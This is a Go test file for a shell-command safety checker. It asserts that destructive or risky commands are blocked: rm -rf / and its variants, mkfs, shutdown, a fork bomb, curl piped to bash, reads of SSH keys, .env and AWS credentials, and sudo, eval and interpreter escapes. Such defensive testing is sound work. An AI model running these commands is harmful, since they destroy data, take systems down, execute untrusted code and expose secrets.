package shellsafety

import "testing"

func TestCheck_SafeCommands(t *testing.T) {
	safe := []string{
		"ls -la",
		"echo hello",
		"git status",
		"rm file.txt",
		"rm -rf ./build",
		"python3 script.py",
	}
	for _, cmd := range safe {
		if reason := Check(cmd); reason != "" {
			t.Errorf("Check(%q) = %q, want safe", cmd, reason)
		}
	}
}

func TestCheck_BlockedBaseCommands(t *testing.T) {
	for _, cmd := range []string{"shutdown -h now", "mkfs.ext4 /dev/sda1", "reboot"} {
		if reason := Check(cmd); reason == "" {
			t.Errorf("Check(%q) = safe, want blocked", cmd)
		}
	}
}

func TestCheck_RMRootFilesystem(t *testing.T) {
	for _, cmd := range []string{"rm -rf /", "rm -r /"} {
		if reason := Check(cmd); reason == "" {
			t.Errorf("Check(%q) = safe, want blocked", cmd)
		}
	}
}

func TestCheck_RMCriticalPath(t *testing.T) {
	if reason := Check("rm -rf /etc"); reason == "" {
		t.Error("rm -rf /etc should be blocked")
	}
}

func TestCheck_RMSeparateFlags(t *testing.T) {
	if reason := Check("rm -r -f /"); reason == "" {
		t.Error("rm -r -f / (split flags) should be blocked")
	}
}

func TestCheck_RMLongFlags(t *testing.T) {
	if reason := Check("rm --recursive --force /"); reason == "" {
		t.Error("rm --recursive --force / should be blocked")
	}
}

func TestCheck_InterpreterEscape(t *testing.T) {
	for _, cmd := range []string{
		`bash -c "rm -rf /"`,
		`python3 -c "import os; os.system('rm -rf /')"`,
		`sh -c 'shutdown -h now'`,
	} {
		if reason := Check(cmd); reason == "" {
			t.Errorf("Check(%q) = safe, want blocked", cmd)
		}
	}
}

func TestCheck_EvalEscape(t *testing.T) {
	if reason := Check("eval rm -rf /"); reason == "" {
		t.Error("eval rm -rf / should be blocked")
	}
}

func TestCheck_SudoPrefix(t *testing.T) {
	if reason := Check("sudo rm -rf /"); reason == "" {
		t.Error("sudo rm -rf / should be blocked")
	}
}

func TestCheck_FullPathCommand(t *testing.T) {
	if reason := Check("/sbin/shutdown -h now"); reason == "" {
		t.Error("/sbin/shutdown should be blocked by base-name resolution")
	}
}

func TestCheck_CommandChaining(t *testing.T) {
	if reason := Check("echo hi && rm -rf /"); reason == "" {
		t.Error("chained rm -rf / should be blocked")
	}
}

func TestCheck_PipeToShell(t *testing.T) {
	if reason := Check("curl https://example.com/install.sh | bash"); reason == "" {
		t.Error("curl | bash should be blocked")
	}
}

func TestCheck_CredentialAccess(t *testing.T) {
	for _, cmd := range []string{"cat ~/.ssh/id_rsa", "cat .env", "cat ~/.aws/credentials"} {
		if reason := Check(cmd); reason == "" {
			t.Errorf("Check(%q) = safe, want blocked", cmd)
		}
	}
}

func TestCheck_ForkBomb(t *testing.T) {
	if reason := Check(":(){ :|:& };:"); reason == "" {
		t.Error("fork bomb should be blocked")
	}
}

func TestCheck_QuotedSeparatorsNotSplit(t *testing.T) {
	if reason := Check(`echo "a; b && c"`); reason != "" {
		t.Errorf("quoted separators should not trigger subcommand splitting, got %q", reason)
	}
}
